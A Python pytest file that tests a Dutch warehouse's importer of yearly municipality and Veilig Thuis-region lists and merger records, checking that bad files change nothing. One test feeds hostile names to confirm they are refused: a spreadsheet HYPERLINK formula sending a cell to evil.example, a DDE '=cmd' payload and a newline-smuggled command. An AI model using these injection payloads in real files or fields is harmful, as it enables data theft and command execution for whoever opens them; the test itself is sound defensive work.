"""Reference data per year: the project's years copied once, imports validated whole, logged, never half-written,
and a missing year named instead of defaulted."""

from __future__ import annotations

import csv
import os
import re
from functools import partial
from pathlib import Path

import duckdb
import pytest

from loaders import referentie
from loaders.layout import read_csv
from tests.conftest import run_vt

vt = partial(run_vt, check=False)

REGIO_NAMES = {r["vt_code"]: r["vt_naam"] for r in read_csv("vt_regio.csv", "referentiedata") if r["jaar"] == "2024"}
GEMEENTEN_2024 = [r for r in read_csv("gemeente_vt.csv", "referentiedata") if r["jaar"] == "2024"]


def gebieden(path: Path, rows: list[dict], names: bool = True) -> Path:
    """A file shaped like CBS's 'Gebieden in Nederland' download: ';', GM-prefixed, padded codes."""
    header = ["Gemeentecode", "Gemeentenaam", "Veilig Thuis-regio code"] + (["Veilig Thuis-regio naam"] * names)
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh, delimiter=";")
        w.writerow(header)
        for r in rows:
            w.writerow(
                [f"GM{r['gemeentecode']}  ", r["gemeentenaam"], r["vt_code"]]
                + ([REGIO_NAMES.get(r["vt_code"], "?")] * names)
            )
    return path


def mergers(path: Path, rows: list[tuple]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["ingangsdatum", "oude_code", "oude_naam", "nieuwe_code", "nieuwe_naam", "splitsing"])
        w.writerows(rows)
    return path


@pytest.fixture
def con(tmp_path):
    with duckdb.connect(str(tmp_path / "vt.duckdb")) as c:
        referentie.ensure(c)
        yield c


def snapshot(con) -> dict:
    return {
        t: con.execute(f"select * from referentie.{t} order by all").fetchall()
        for t in ("vt_regio", "gemeente_vt", "herindelingen", "importlog")
    }


def test_the_project_years_are_copied_once_and_logged(tmp_path):
    with duckdb.connect(str(tmp_path / "vt.duckdb")) as c:
        assert referentie.ensure(c) == [2019, 2020, 2021, 2022, 2023, 2024]
        assert referentie.ensure(c) == []
        assert c.execute("select jaar, count(*) from referentie.vt_regio group by 1 order by 1").fetchall() == [
            (2019, 26),
            (2020, 26),
            (2021, 26),
            (2022, 26),
            (2023, 25),
            (2024, 25),
        ]
        assert c.execute("select count(*) from referentie.gemeente_vt").fetchone() == (
            len(read_csv("gemeente_vt.csv", "referentiedata")),
        )
        assert c.execute(
            "select count(*), min(soort), count(distinct jaar) from referentie.importlog "
            "where soort = 'projectdata gemeente_vt'"
        ).fetchone() == (6, "projectdata gemeente_vt", 6)
        assert referentie.missing(c, [2023, 2024, 2025]) == {2025: ["gemeente list", "VT-regio list"]}


def test_a_missing_year_is_named_with_what_to_do(con):
    message = referentie.missing_message("release 2025V1 cannot be built", referentie.missing(con, [2025]))
    assert message == (
        "release 2025V1 cannot be built: the warehouse has no reference data for 2025 (2025: no gemeente list and "
        "no VT-regio list). Nothing is mapped to 9999 for a missing year: add them with `vt reference "
        'add-gemeenten --year 2025 FILE.csv` (a CSV like CBS\'s "Gebieden in Nederland": gemeentecode, '
        "gemeentenaam, VT-regio code and name), or, when nothing changed since 2024, `vt reference carry-forward "
        '--year 2025` (docs/operator.md, "Reference data")'
    )


def test_a_gebieden_in_nederland_file_adds_a_year_with_its_regions(con, tmp_path):
    path = gebieden(tmp_path / "gebieden_2025.csv", GEMEENTEN_2024)
    message = referentie.import_gemeenten(con, 2025, path)
    assert message == f"2025: 342 gemeenten and 25 VT-regio's imported from {path}"
    assert referentie.missing(con, [2025]) == {}
    assert referentie.regios(con, 2025) == referentie.regios(con, 2024)
    assert referentie.gemeenten(con, 2025) == referentie.gemeenten(con, 2024)
    log = con.execute(
        "select soort, jaar, rijen, bron, checksum_sha256 from referentie.importlog where jaar = 2025 order by soort"
    ).fetchall()
    checksum = referentie.read_source(path, ("gemeentecode",)).checksum
    assert log == [
        ("gemeente_vt", 2025, 342, f"{path.resolve()} (sha256 {checksum[:12]})", checksum),
        ("vt_regio", 2025, 25, f"{path.resolve()} (sha256 {checksum[:12]})", checksum),
    ]


def bad(rows: list[dict], **change) -> list[dict]:
    out = [dict(r) for r in rows]
    for i, values in change.items():
        out[int(i[1:])].update(values)
    return out


@pytest.mark.parametrize(
    "rows,names,problem",
    [
        (
            [dict(r, vt_code="VT04") if r["vt_code"] == "VT03" else r for r in GEMEENTEN_2024],
            False,
            "VT-regio's of 2025 without any gemeente: VT03",
        ),
        (
            bad(GEMEENTEN_2024, r3={"vt_code": "VT16"}),
            False,
            "VT-regio VT16 is not in the VT-regio list of 2025; line 5",
        ),
        (
            bad(GEMEENTEN_2024, r3={"vt_code": "VT99"}),
            True,
            "VT-regio VT99 is not a Veilig Thuis-organisatie of the code list VT_ORGANISATIE; line 5",
        ),
        (
            bad(GEMEENTEN_2024, r7={"gemeentecode": GEMEENTEN_2024[6]["gemeentecode"]}),
            True,
            f"gemeentecode {GEMEENTEN_2024[6]['gemeentecode']} occurs more than once; lines 8, 9 (2 lines)",
        ),
        (
            bad(GEMEENTEN_2024, r0={"gemeentecode": "12345"}, r1={"gemeentecode": "9999"}),
            True,
            "gemeentecode is not 4 digits (with or without GM), or is 9999; lines 2, 3 (2 lines)",
        ),
        (bad(GEMEENTEN_2024, r2={"gemeentenaam": ""}), True, "gemeentenaam is empty; line 4"),
        ([], True, "the file has no gemeenten"),
    ],
)
def test_a_bad_gemeenten_file_changes_nothing_and_names_the_problem(con, tmp_path, rows, names, problem):
    if not names:  # no names in the file: the codes are checked against the year's existing list
        referentie.carry_forward(con, 2025)
        con.execute("delete from referentie.gemeente_vt where jaar = 2025")
    before = snapshot(con)
    path = gebieden(tmp_path / "bad.csv", rows, names)
    with pytest.raises(referentie.ReferenceError) as info:
        referentie.import_gemeenten(con, 2025, path)
    assert str(info.value).startswith(f"{path}: the gemeenten of 2025 refused, nothing changed\n")
    assert problem in str(info.value)
    assert snapshot(con) == before


def test_a_year_the_warehouse_has_is_replaced_only_on_request(con, tmp_path):
    path = gebieden(tmp_path / "g.csv", GEMEENTEN_2024)
    with pytest.raises(referentie.ReferenceError, match="already has a gemeente list for 2024"):
        referentie.import_gemeenten(con, 2024, path)
    referentie.import_gemeenten(con, 2024, path, replace=True)
    assert con.execute(
        "select soort, toelichting from referentie.importlog where jaar = 2024 and bron like '%g.csv%' order by 1"
    ).fetchall() == [("gemeente_vt", "replaced"), ("vt_regio", "from the gemeenten file")]


def test_mergers_need_a_successor_that_exists_in_their_year(con, tmp_path):
    referentie.import_gemeenten(
        con,
        2025,
        gebieden(
            tmp_path / "g.csv",
            [
                dict(r, gemeentecode="1999", gemeentenaam="Nieuwegemeente") if r["gemeentecode"] == "0014" else r
                for r in GEMEENTEN_2024
            ],
        ),
    )
    before = snapshot(con)
    missing_year = mergers(tmp_path / "m0.csv", [("2027-01-01", "0014", "Groningen", "1999", "Nieuw", "N")])
    to_nothing = mergers(tmp_path / "m1.csv", [("2025-01-01", "0034", "Almere", "1998", "Nergens", "N")])
    half_split = mergers(tmp_path / "m2.csv", [("2025-01-01", "0034", "Almere", "1999", "Nieuw", "J")])
    for path, problem in (
        (missing_year, "2027 has no gemeente list yet"),
        (to_nothing, "nieuwe_code 1998 is not a gemeente in 2025; line 2"),
        (half_split, "0034 is marked as split (J) but has one successor; line 2"),
    ):
        with pytest.raises(referentie.ReferenceError, match=re.escape(problem)):
            referentie.import_herindelingen(con, path)
        assert snapshot(con) == before
    good = mergers(tmp_path / "m3.csv", [("2025-01-01", "0014", "Groningen", "1999", "Nieuwegemeente", "N")])
    assert referentie.import_herindelingen(con, good) == f"1 mergers imported from {good}"
    with pytest.raises(referentie.ReferenceError, match="already in the warehouse or twice in the file"):
        referentie.import_herindelingen(con, good)


def test_carry_forward_is_explicit_and_refused_when_a_merger_changed_the_list(con, tmp_path):
    assert referentie.carry_forward(con, 2025) == "2025: 342 gemeenten and 25 VT-regio's carried forward from 2024"
    assert (
        con.execute("select toelichting from referentie.importlog where jaar = 2025").fetchall()
        == [("carried forward from 2024: the operator stated that nothing changed",)] * 2
    )
    with pytest.raises(referentie.ReferenceError, match="2025 already has a gemeente or VT-regio list"):
        referentie.carry_forward(con, 2025)
    referentie.import_gemeenten(
        con,
        2026,
        gebieden(
            tmp_path / "g.csv",
            [dict(r, gemeentecode="1999") if r["gemeentecode"] == "0014" else r for r in GEMEENTEN_2024],
        ),
    )
    referentie.import_herindelingen(
        con, mergers(tmp_path / "m.csv", [("2026-01-01", "0034", "Almere", "1999", "Groningen", "N")])
    )
    before = snapshot(con)
    with pytest.raises(
        referentie.ReferenceError,
        match=r"mergers after 2025 up to 2027 removed gemeenten of the "
        r"2025 list \(0034\)",
    ):
        referentie.carry_forward(con, 2027, van=2025)
    assert snapshot(con) == before


def test_cli_imports_report_and_a_refused_one_exits_1_and_is_logged(tmp_path):
    home = tmp_path / "wh"
    bad_file = gebieden(tmp_path / "bad.csv", bad(GEMEENTEN_2024, r3={"vt_code": "VT99"}))
    proc = vt("reference", "add-gemeenten", "--year", "2025", str(bad_file), home=home)
    assert proc.returncode == 1
    assert proc.stderr.splitlines()[0] == f"{bad_file}: the gemeenten of 2025 refused, nothing changed"
    good = gebieden(tmp_path / "good.csv", GEMEENTEN_2024)
    proc = vt("reference", "add-gemeenten", "--year", "2025", str(good), home=home)
    assert (proc.returncode, proc.stdout) == (0, f"2025: 342 gemeenten and 25 VT-regio's imported from {good}\n")
    proc = vt("reference", "carry-forward", "--year", "2026", home=home)
    assert proc.returncode == 0
    listing = vt("reference", "list", home=home).stdout.splitlines()
    assert listing[0].split() == ["jaar", "gemeenten", "VT-regio", "herindelingen", "bron"]
    assert [line.split()[:4] for line in listing[1:]] == [
        ["2019", "355", "26", "34"],
        ["2020", "355", "26", "0"],
        ["2021", "352", "26", "7"],
        ["2022", "345", "26", "11"],
        ["2023", "342", "25", "3"],
        ["2024", "342", "25", "0"],
        ["2025", "342", "25", "0"],
        ["2026", "342", "25", "0"],
    ]
    assert "carry-forward of 2025" in listing[-1]
    log = (home / "logs" / "reference.log").read_text().splitlines()
    assert len(log) == 3 and "refused:" in log[0] and "imported from" in log[1] and "carried forward" in log[2]
    # the portal's copy of the lists (its rule 10) follows every change, and is what the database holds
    lists = referentie.read_organisations(home)
    assert sorted(lists) == list(range(2019, 2027)) and lists[2026] == {r["vt_code"] for r in GEMEENTEN_2024}


def test_a_reference_file_is_a_bounded_regular_file_or_refused_at_once(con, tmp_path, monkeypatch):
    """A FIFO never hangs the import, /dev/zero is never read to the end, a directory or an oversized file is
    refused before it is parsed; a malformed CSV line (a bare CR in a quoted field) is a finding with its line."""
    fifo = tmp_path / "fifo.csv"
    os.mkfifo(fifo)
    monkeypatch.setattr(referentie, "MAX_REFERENCE_BYTES", 1000)
    big = tmp_path / "big.csv"
    big.write_text("vt_code,vt_naam\n" + "VT01,x\n" * 200)
    cr = tmp_path / "cr.csv"
    cr.write_bytes(b'vt_code,vt_naam\nVT01,Amsterdam\nVT02,"Dren\rthe"x\n')
    long = tmp_path / "long.csv"
    long.write_text('vt_code,vt_naam\nVT01,Amsterdam\nVT02,"' + "D" * 300 + '"\n')
    limit = csv.field_size_limit(200)  # what the csv module refuses, whatever the limit: a finding with its line
    try:
        for path, problem in (
            (fifo, "not a regular file (a directory, FIFO, socket or device): refused"),
            (Path("/dev/zero"), "not a regular file"),
            (tmp_path, "not a regular file"),
            (big, "larger than 0 MiB, far more than any reference list: refused"),
            (cr, "the file refused, nothing changed\n  vt_naam has a control character"),
            (long, "line 3: not a valid CSV line (field larger than field limit (200))"),
        ):
            with pytest.raises(referentie.ReferenceError, match=re.escape(f"{path}: {problem}")):
                referentie.import_regios(con, 2025, path)
    finally:
        csv.field_size_limit(limit)


@pytest.mark.parametrize(
    "value,problem",
    [
        ("Groningen\nHOST COMMAND=['touch /tmp/x'].", "gemeentenaam has a control character"),
        ("Gro\x00ningen", "gemeentenaam has a control character"),
        ("Gro\tningen", "gemeentenaam has a control character"),
        ('=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "gemeentenaam starts with one of = + - @"),
        ("=cmd|' /C calc'!A0", "gemeentenaam starts with one of = + - @"),
        ("@SUM(1+1)", "gemeentenaam starts with one of = + - @"),
        ("G" * 101, "gemeentenaam is longer than 100 characters"),
    ],
)
def test_a_hostile_or_absurd_name_is_refused_with_its_line(con, tmp_path, value, problem):
    rows = [dict(r, gemeentenaam=value) if r["gemeentecode"] == "0014" else r for r in GEMEENTEN_2024]
    path = gebieden(tmp_path / "g.csv", rows)
    line = 1 + next(i for i, r in enumerate(rows, start=1) if r["gemeentecode"] == "0014")
    before = snapshot(con)
    with pytest.raises(referentie.ReferenceError) as info:
        referentie.import_gemeenten(con, 2025, path)
    lines = str(info.value).splitlines()
    assert lines[0] == f"{path}: the file refused, nothing changed" and len(lines) == 2
    assert lines[1].startswith(f"  {problem}") and lines[1].endswith(f"; line {line}"), lines[1]
    assert snapshot(con) == before


def test_years_outside_2019_to_2100_and_merger_chains_on_one_date_are_refused(con, tmp_path):
    good = gebieden(tmp_path / "g.csv", GEMEENTEN_2024)
    for jaar in (99999, 100000, 2101, 2018):
        with pytest.raises(referentie.ReferenceError, match=r"reference data is for the years 2019 to 2100"):
            referentie.import_gemeenten(con, jaar, good)
    referentie.import_gemeenten(con, 2025, good)
    before = snapshot(con)
    cycle = mergers(
        tmp_path / "cycle.csv",
        [
            ("2025-01-01", "0014", "Groningen", "0034", "Almere", "N"),
            ("2025-01-01", "0034", "Almere", "0014", "Groningen", "N"),
        ],
    )
    chain = mergers(
        tmp_path / "chain.csv",
        [
            ("2025-01-01", "0014", "Groningen", "0034", "Almere", "N"),
            ("2025-01-01", "0034", "Almere", "0037", "Stadskanaal", "N"),
        ],
    )
    for path in (cycle, chain):
        with pytest.raises(
            referentie.ReferenceError,
            match=re.escape(
                "on 2025-01-01 a gemeente is both merged away and a successor (0014, 0034)"
                if path == cycle
                else "on 2025-01-01 a gemeente is both merged away and a successor (0034)"
            ),
        ):
            referentie.import_herindelingen(con, path)
        assert snapshot(con) == before
    # against a merger already in the warehouse too: its successor cannot merge away on the same date
    referentie.import_herindelingen(
        con, mergers(tmp_path / "one.csv", [("2025-01-01", "0014", "Groningen", "0034", "Almere", "N")])
    )
    with pytest.raises(referentie.ReferenceError, match="both merged away and a successor"):
        referentie.import_herindelingen(
            con, mergers(tmp_path / "two.csv", [("2025-01-01", "0034", "Almere", "0037", "Stadskanaal", "N")])
        )


def test_absurd_years_are_usage_errors(tmp_path):
    for args in (
        ("reference", "add-gemeenten", "--year", "99999", "x.csv"),
        ("releases", "--years", "2019:99999"),
        ("verify", "9999V9"),
    ):
        proc = vt(*args, home=tmp_path / "wh")
        assert proc.returncode == 2 and "Traceback" not in proc.stderr, (args, proc.stderr)
